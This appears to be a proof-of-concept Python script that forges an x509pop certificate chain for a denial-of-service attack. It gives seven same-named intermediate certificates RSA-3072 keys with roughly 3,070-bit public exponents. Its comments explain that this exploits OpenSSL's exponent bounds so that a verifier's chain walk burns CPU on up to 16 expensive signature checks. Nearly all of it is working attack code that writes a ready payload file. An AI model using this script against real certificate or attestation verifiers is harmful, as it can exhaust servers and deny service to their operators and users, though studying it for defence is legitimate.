# Builds a forged x509pop chain whose intermediates carry RSA-3072 keys with a ~3070-bit public exponent
# (OpenSSL only bounds e to 64 bits for moduli > 3072 bits). Output: chain.json (base64 DER, leaf first).
import json, base64, datetime, secrets, sys
from math import gcd
from cryptography import x509
from cryptography.x509.oid import NameOID
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa, ec

def huge_e_key(bits=3072):
    base = rsa.generate_private_key(public_exponent=65537, key_size=bits)
    pn = base.private_numbers(); p, q = pn.p, pn.q; n = p*q; phi = (p-1)*(q-1)
    while True:
        e = secrets.randbits(bits-2) | (1 << (bits-3)) | 1
        if gcd(e, phi) == 1: break
    d = pow(e, -1, phi)
    nums = rsa.RSAPrivateNumbers(p, q, d, d % (p-1), d % (q-1), pow(q, -1, p), rsa.RSAPublicNumbers(e, n))
    return nums.private_key()

mode = sys.argv[1] if len(sys.argv) > 1 else 'huge'
now = datetime.datetime.now(datetime.timezone.utc)
def name(s): return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, s)])
S = name('forged-intermediate')
keys = [huge_e_key() if mode == 'huge' else rsa.generate_private_key(public_exponent=65537, key_size=3072) for _ in range(7)]
def cert(subject, issuer, pub, signer, ca):
    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer).public_key(pub)
         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
         .not_valid_after(now + datetime.timedelta(days=1))
         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
    return b.sign(signer, hashes.SHA256())
leafkey = ec.generate_private_key(ec.SECP256R1())
# Leaf is signed by the last intermediate, so the walk checks all 7 candidates (same name, no key ids) before it.
# Intermediate 7 is signed by intermediate 6, and so on: the walk keeps finding candidates until the 16-check budget.
inters = []
for i in range(7):
    inters.append(None)
leaf = cert(name('node-1'), S, leafkey.public_key(), keys[6], False)
chain_certs = []
for i in range(7):
    signer = keys[i-1] if i > 0 else keys[0]
    chain_certs.append(cert(S, S, keys[i].public_key(), signer, True))
ders = [leaf.public_bytes(serialization.Encoding.DER)] + [c.public_bytes(serialization.Encoding.DER) for c in chain_certs]
print('total DER bytes', sum(len(d) for d in ders), file=sys.stderr)
json.dump({'certificates': [base64.b64encode(d).decode() for d in ders]}, open(f'chain-{mode}.json', 'w'))
